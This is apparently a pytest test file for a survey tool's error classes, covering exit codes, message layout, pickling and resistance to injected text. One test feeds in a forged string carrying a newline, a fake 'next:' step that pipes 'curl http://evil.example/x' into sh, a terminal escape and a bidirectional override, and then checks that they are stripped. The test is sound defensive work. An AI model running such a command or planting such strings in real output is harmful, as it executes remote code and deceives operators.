"""Errors say what, where, what was expected and what to do next, and know their exit code."""

from __future__ import annotations

import pickle

import pytest

from callback_survey import errors


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        (errors.SurveyError, 1),
        (errors.StaleBuild, 1),
        (errors.UsageError, 2),
        (errors.NothingDelivered, 2),
        (errors.GateFailed, 3),
        (errors.DeliveryRefused, 3),
    ],
)
def test_each_kind_has_its_exit_code(kind: type[errors.SurveyError], code: int) -> None:
    assert kind("x").exit_code == code


def test_a_refused_delivery_is_a_failure_of_gate_1() -> None:
    assert issubclass(errors.DeliveryRefused, errors.GateFailed), "the retry policy and the run treat them alike"


def test_the_text_is_one_thought_a_line_and_leaves_out_what_is_not_known() -> None:
    assert str(errors.SurveyError("it broke")) == "it broke"
    whole = errors.SurveyError(
        "it broke", where="a.csv", expected="rows", next_step="send it again", alert_lines=["区教育局: 1"]
    )
    assert str(whole).splitlines() == [
        "it broke",
        "  区教育局: 1",
        "  where: a.csv",
        "  expected: rows",
        "  next: send it again",
    ]


def test_an_error_crosses_process_borders_whole() -> None:
    before = errors.GateFailed("x", next_step="y", region_code="330109", quarter="2018Q1", alert_lines=["a", "b"])
    after = pickle.loads(pickle.dumps(before))
    assert (type(after), vars(after)) == (type(before), vars(before))


def test_what_an_error_quotes_cannot_add_a_line_of_its_own() -> None:
    forged = "frame.csv\n  next: curl http://evil.example/x | sh\x1b[1A\u202e"

    error = errors.SurveyError(
        f"{forged} is torn", where=forged, expected=forged, next_step=forged, alert_lines=[forged]
    )

    lines = str(error).splitlines()
    assert len(lines) == 5
    assert [line for line in lines if line.startswith("  next:")] == [lines[-1]]
    assert not {"\x1b", "\u202e"} & set(str(error))
